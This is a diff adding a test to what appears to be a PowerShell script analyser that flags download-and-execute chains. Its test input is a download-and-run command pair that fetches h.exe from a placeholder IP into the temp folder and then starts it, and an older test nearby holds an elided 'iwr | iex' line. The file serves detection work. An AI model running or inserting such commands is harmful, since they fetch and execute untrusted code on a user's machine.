@@ -261,3 +261,14 @@ def test_a_cmdlet_looked_up_through_the_execution_context_with_its_name_concaten
 
 def test_a_download_elided_to_an_ellipsis_runs_nothing(tmp_path: Path) -> None:
     assert Kind.EXEC_FETCHED not in {c.kind for c in analyse(tmp_path, "iwr ... | iex\n")}
+
+
+def test_a_bare_argument_joining_a_variable_and_a_path_names_the_file(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "Invoke-WebRequest http://198.51.100.8/h.exe -OutFile $env:TEMP\\h.exe\nStart-Process $env:TEMP\\h.exe\n",
+    )
+    assert chain(found, Kind.EXEC_FETCHED) == [
+        (1, "downloads http://198.51.100.8/h.exe"),
+        (2, "runs h.exe, which it downloaded"),
+    ]
